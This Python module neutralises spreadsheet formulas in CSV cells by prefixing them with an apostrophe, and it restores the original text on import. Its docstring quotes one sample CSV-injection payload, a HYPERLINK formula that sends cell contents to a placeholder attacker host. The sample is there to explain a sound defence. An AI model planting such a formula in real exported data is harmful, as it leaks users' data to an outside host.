"""Spreadsheet formula neutralisation for CSV cells, shared by `rrsite export` and the analyzer.

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and some also after a leading tab or carriage return); a respondent's free text such as
``=HYPERLINK("http://evil.example/?"&A1)`` would then run on the researcher's machine ("CSV
injection", OWASP). The export prefixes such text cells with an apostrophe, which spreadsheets read
as "this is text" and do not display.

To read the cell back exactly, the rule is a bijection on strings: a text is prefixed when it is
any number of apostrophes followed by a trigger character, and `restore` removes one apostrophe
from a cell of that shape. So ``=1`` -> ``'=1``, ``'=1`` -> ``''=1``, and ``'hello`` (no trigger
after the apostrophes) is written and read unchanged.
"""

from __future__ import annotations

#: Characters that make a spreadsheet treat a cell as a formula (OWASP "CSV Injection").
TRIGGERS = frozenset("=+-@\t\r")


def _guarded(text: str) -> bool:
    """True if the text, past any leading apostrophes, starts with a formula trigger."""
    rest = text.lstrip("'")
    return bool(rest) and rest[0] in TRIGGERS


def neutralise(text: str) -> str:
    """The cell as written to CSV: an apostrophe in front of formula-like text."""
    return "'" + text if _guarded(text) else text


def restore(cell: str) -> str:
    """The original text of a cell `neutralise` wrote (other cells are returned unchanged)."""
    return cell[1:] if cell.startswith("'") and _guarded(cell) else cell
